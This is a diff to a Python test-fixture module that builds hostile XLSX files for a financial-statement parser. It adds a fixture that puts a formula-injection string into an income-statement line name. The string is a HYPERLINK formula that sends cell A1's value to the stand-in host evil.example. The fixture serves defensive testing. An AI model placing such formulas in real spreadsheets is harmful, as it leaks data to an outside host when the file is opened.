@@ -9,12 +9,18 @@ import zipfile
 from collections.abc import Callable, Iterator
 from xml.sax.saxutils import escape
 
+import openpyxl
+
+from services.devstack._samples import INCOME, INCOME_LABELS, statement_sheet
+
 from .spec import SheetSpec
 from .xlsx import write_xlsx
 
 __all__ = [
+    "HYPERLINK_NAME",
     "billion_laughs_xlsx",
     "far_cell_xlsx",
+    "formula_named_income_xlsx",
     "formula_without_value_xlsx",
     "lying_dimension_bomb_xlsx",
     "mutants",
@@ -176,3 +182,24 @@ def with_stray_cells(
         at = later.start() if later is not None else sheet.index(b"</sheetData>")
         sheet = sheet[:at] + row + sheet[at:]
     return replace_member(xlsx, part, sheet)
+
+
+# A line name that a spreadsheet would run as a formula (issue 27: formula injection).
+HYPERLINK_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Выручка")'
+_MARK = "Выручка-метка"
+
+
+def formula_named_income_xlsx() -> bytes:
+    """An ОФР whose 2110 name is the text cell `HYPERLINK_NAME` (a string, as a borrower's
+    file may hold it: xlsxwriter would write a formula, so the cell is set afterwards)."""
+    lines = [(code, _MARK if code == "2110" else name, amounts) for code, name, amounts in INCOME]
+    sheet = statement_sheet(
+        "ОФР", "Отчет о финансовых результатах", "за 2024 г.", "0710002", INCOME_LABELS, lines
+    )
+    book = openpyxl.load_workbook(io.BytesIO(write_xlsx([sheet])))
+    cell = next(c for row in book.active.iter_rows() for c in row if c.value == _MARK)
+    cell.value = HYPERLINK_NAME
+    cell.data_type = "s"
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return buffer.getvalue()
